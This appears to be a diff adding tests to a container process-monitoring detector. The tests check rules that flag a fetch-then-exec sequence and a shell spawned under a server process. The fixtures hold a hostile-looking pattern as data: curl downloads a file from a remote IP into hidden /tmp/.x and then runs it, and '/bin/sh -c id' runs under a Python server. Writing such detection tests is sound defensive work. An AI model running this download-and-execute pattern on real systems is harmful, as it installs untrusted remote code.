@@ -393,3 +393,47 @@ describe('forget (retention)', () => {
     expect(b.group('pod/default/xwing')).toMatchObject({ processes: 1, exited: 0 });
   });
 });
+
+describe('findings', () => {
+  it('explains fetch-then-exec whichever of the download and the run arrives first', () => {
+    const curl: ProcSpec = {
+      pid: 80,
+      binary: '/usr/bin/curl',
+      args: '-so /tmp/.x http://203.0.113.9/x',
+      pod,
+      docker: 'abc',
+      parent: init,
+    };
+    const run: ProcSpec = { pid: 81, binary: '/tmp/.x', pod, docker: 'abc', parent: init };
+    for (const order of [
+      [execLine(curl), execLine(run)],
+      [execLine(run), execLine(curl)],
+    ]) {
+      const b = build(order);
+      expect(b.process(idOf(run))?.findings.map((f) => [f.rule, f.relatedExecId])).toEqual([
+        ['binary-in-tmp', null],
+        ['fetch-then-exec', idOf(curl)],
+      ]);
+      expect(b.group('pod/default/xwing')?.flagged).toBe(1);
+    }
+  });
+
+  it('flags a shell under a server process once the parent is known', () => {
+    const server: ProcSpec = { pid: 20, binary: '/usr/local/bin/python3.12', pod, docker: 'abc' };
+    const shell: ProcSpec = {
+      pid: 21,
+      binary: '/bin/sh',
+      args: '-c id',
+      pod,
+      docker: 'abc',
+      parent: server,
+    };
+    const b = build([execLine(shell, { withParent: false })]);
+    expect(b.process(idOf(shell))?.findings).toEqual([]);
+    b.drainChanges();
+    for (const e of parseAll([execLine(server)])) b.apply(e);
+    expect(b.drainChanges().upserts.find((p) => p.execId === idOf(shell))?.findings[0]?.rule).toBe(
+      'shell-from-server',
+    );
+  });
+});
